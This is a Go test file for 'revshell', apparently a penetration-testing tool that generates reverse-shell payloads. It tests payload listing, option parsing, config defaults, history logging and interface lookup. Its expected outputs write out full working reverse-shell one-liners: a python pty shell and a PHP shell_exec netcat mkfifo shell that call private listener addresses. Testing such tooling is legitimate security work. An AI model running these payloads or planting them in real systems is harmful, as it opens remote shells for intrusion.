package cmd

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/josephlewis42/revshell/core/config"
	"github.com/josephlewis42/revshell/core/payload"
	"github.com/sebdah/goldie/v2"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func testApp() *app {
	return &app{
		registry: payload.Default(),
		lister: func() (map[string]string, error) {
			return map[string]string{"lo": "127.0.0.1", "tun0": "10.10.14.2"}, nil
		},
		now: func() time.Time {
			return time.Date(2024, 3, 1, 12, 0, 0, 0, time.UTC)
		},
	}
}

func execute(t *testing.T, a *app, args ...string) (stdout, stderr string, err error) {
	t.Helper()

	var out, errOut bytes.Buffer
	root := newRootCommand(a)
	root.SetOut(&out)
	root.SetErr(&errOut)
	root.SetArgs(args)

	err = root.Execute()
	return out.String(), errOut.String(), err
}

// writeConfig creates a configuration directory holding contents.
func writeConfig(t *testing.T, contents string) string {
	t.Helper()

	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, config.ConfigurationName), []byte(contents), 0600))
	return dir
}

func TestRoot(t *testing.T) {
	narrow := writeConfig(t, "list_width: 30\n")

	cases := map[string][]string{
		"list-payloads":           {"--list-payloads", "--color", "never"},
		"list-payloads-narrow":    {"--list-payloads", "--config", narrow},
		"show-options-bash":       {"--show-options", "cmd/unix/reverse_bash"},
		"show-options-php-bash":   {"--show-options", "php/cmd/unix/reverse_bash"},
		"show-options-powershell": {"--show-options=cmd/windows/reverse_powershell"},
		"netcat":                  {"cmd/unix/reverse_netcat_mkfifo", "10.0.0.1"},
		"netcat-assign":           {"-v", "FIFO_PATH=/tmp/g", "cmd/unix/reverse_netcat_mkfifo", "10.0.0.1", "9001", "--assign", "nc_path=ncat"},
		"netcat-interface":        {"cmd/unix/reverse_netcat_mkfifo", "tun0", "443"},
	}

	g := goldie.New(
		t,
		goldie.WithFixtureDir(filepath.Join("testdata", "golden")),
		goldie.WithDiffEngine(goldie.ColoredDiff),
		goldie.WithTestNameForDir(true),
	)

	for tn, args := range cases {
		t.Run(tn, func(t *testing.T) {
			out, _, err := execute(t, testApp(), args...)
			require.NoError(t, err)

			g.Assert(t, tn, []byte(out))
		})
	}
}

func TestRoot_Errors(t *testing.T) {
	cases := map[string]struct {
		args     []string
		expected string
	}{
		"missing lhost":   {[]string{"cmd/unix/reverse_bash"}, "requires PAYLOAD and LHOST"},
		"too many args":   {[]string{"cmd/unix/reverse_bash", "a", "1", "b"}, "accepts at most 3 arg(s)"},
		"unknown payload": {[]string{"cmd/unix/nope", "10.0.0.1"}, `unknown payload "cmd/unix/nope"`},
		"unknown show":    {[]string{"--show-options", "nope"}, `unknown payload "nope"`},
		"port range":      {[]string{"cmd/unix/reverse_bash", "10.0.0.1", "65537"}, "invalid port 65537"},
		"port text":       {[]string{"cmd/unix/reverse_bash", "10.0.0.1", "http"}, `invalid port "http"`},
		"bad assignment":  {[]string{"-v", "1X=2", "cmd/unix/reverse_bash", "10.0.0.1"}, `invalid assignment "1X=2"`},
		"bad literal":     {[]string{"-v", "X=007", "cmd/unix/reverse_bash", "10.0.0.1"}, "leading zeros"},
		"unknown keys":    {[]string{"-v", "FOO=1", "-v", "bar=2", "-v", "FOO=3", "cmd/unix/reverse_bash", "10.0.0.1"}, "unexpected keywords: FOO, bar"},
		"bad color":       {[]string{"--color", "sometimes", "--list-payloads"}, `invalid color "sometimes"`},
		"missing config":  {[]string{"--config", "/nonexistent/revshell", "--list-payloads"}, "config.yaml"},
	}

	for tn, tc := range cases {
		t.Run(tn, func(t *testing.T) {
			_, _, err := execute(t, testApp(), tc.args...)
			require.Error(t, err)
			assert.Contains(t, err.Error(), tc.expected)
		})
	}
}

func TestRoot_Color(t *testing.T) {
	out, _, err := execute(t, testApp(), "--list-payloads", "--color", "always")
	require.NoError(t, err)

	first := strings.SplitN(out, "\n", 2)[0]
	assert.True(t, strings.HasPrefix(first, "\x1b[36;1mcmd/unix/reverse_bash\x1b[0m "), "%q", first)
	assert.True(t, strings.HasSuffix(first, "/dev/tcp."), "%q", first)

	out, _, err = execute(t, testApp(), "--list-payloads")
	require.NoError(t, err)
	assert.NotContains(t, out, "\x1b[", "auto mode doesn't color a buffer")
}

func TestRoot_ConfigDefaults(t *testing.T) {
	dir := writeConfig(t, `
default_lport: 9001
interfaces:
  vpn: 10.8.0.1
payload_defaults:
  cmd/unix/reverse_python:
  - PYTHON_PATH=python2
  - SHELL_PATH=/bin/bash
`)

	out, _, err := execute(t, testApp(), "--config", dir, "-v", "shell_path=zsh", "cmd/unix/reverse_python", "vpn")
	require.NoError(t, err)
	assert.Equal(t,
		`python2 -c 'import os,pty,socket;s=socket.create_connection(("10.8.0.1",9001));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("zsh")'`+"\n",
		out)
}

func TestRoot_ConfigDefaultsInvalid(t *testing.T) {
	dir := writeConfig(t, `
payload_defaults:
  cmd/unix/reverse_bash:
  - NOPE=1
`)

	_, _, err := execute(t, testApp(), "--config", dir, "cmd/unix/reverse_bash", "10.0.0.1")
	var ue *payload.UnknownOptionError
	require.ErrorAs(t, err, &ue)
	assert.Equal(t, []string{"NOPE"}, ue.Keys)
}

func TestRoot_PHPWrapper(t *testing.T) {
	out, _, err := execute(t, testApp(), "php/cmd/unix/reverse_netcat_mkfifo", "10.0.0.1", "-v", "PRE=0", "-v", "nc_path=/bin/nc")
	require.NoError(t, err)
	assert.Equal(t, `<?= shell_exec("rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|/bin/nc 10.0.0.1 4444 >/tmp/f") ?>`+"\n", out)
}

func TestHistory(t *testing.T) {
	dir := writeConfig(t, "record_history: true\n")

	for _, args := range [][]string{
		{"cmd/unix/reverse_netcat_mkfifo", "10.0.0.1"},
		{"cmd/unix/reverse_netcat_mkfifo", "10.0.0.1", "-v", "FIFO_PATH=/tmp/g"},
		{"cmd/windows/reverse_powershell", "tun0", "443"},
	} {
		_, _, err := execute(t, testApp(), append([]string{"--config", dir}, args...)...)
		require.NoError(t, err)
	}

	logged, err := os.ReadFile(filepath.Join(dir, config.HistoryLogName))
	require.NoError(t, err)
	lines := strings.Split(strings.TrimSpace(string(logged)), "\n")
	require.Len(t, lines, 3)
	assert.Equal(t,
		`{"timestamp":"2024-03-01T12:00:00Z","payload":"cmd/unix/reverse_netcat_mkfifo","lhost":"10.0.0.1","lport":4444,"options":{"fifo_path":"/tmp/g"}}`,
		lines[1])

	out, _, err := execute(t, testApp(), "--config", dir, "history")
	require.NoError(t, err)
	assert.Contains(t, out, "log_entries: 3")
	assert.Contains(t, out, "cmd/unix/reverse_netcat_mkfifo: 2")
	assert.Contains(t, out, "cmd/windows/reverse_powershell: 1")
}

func TestHistory_Empty(t *testing.T) {
	dir := writeConfig(t, "record_history: false\n")

	_, _, err := execute(t, testApp(), "--config", dir, "cmd/unix/reverse_bash", "10.0.0.1")
	require.NoError(t, err)

	out, _, err := execute(t, testApp(), "--config", dir, "history")
	require.NoError(t, err)
	assert.Contains(t, out, "log_entries: 0")
}

func TestHistory_RequiresConfig(t *testing.T) {
	_, _, err := execute(t, testApp(), "history")
	assert.EqualError(t, err, "history requires --config")
}

func TestInit(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "revshell")

	_, stderr, err := execute(t, testApp(), "init", dir)
	require.NoError(t, err)
	assert.Contains(t, stderr, "Writing configuration")

	configuration, err := config.Load(dir)
	require.NoError(t, err)
	assert.Equal(t, config.Default().DefaultLPort, configuration.DefaultLPort)

	_, _, err = execute(t, testApp(), "init", dir)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "already exists")
}

func TestInterfaces(t *testing.T) {
	dir := writeConfig(t, "interfaces:\n  vpn: 10.8.0.1\n  lo: 127.0.0.2\n")

	out, _, err := execute(t, testApp(), "--config", dir, "--color", "never", "interfaces")
	require.NoError(t, err)
	assert.Equal(t, "lo\t127.0.0.2\ntun0\t10.10.14.2\nvpn\t10.8.0.1\n", out)
}
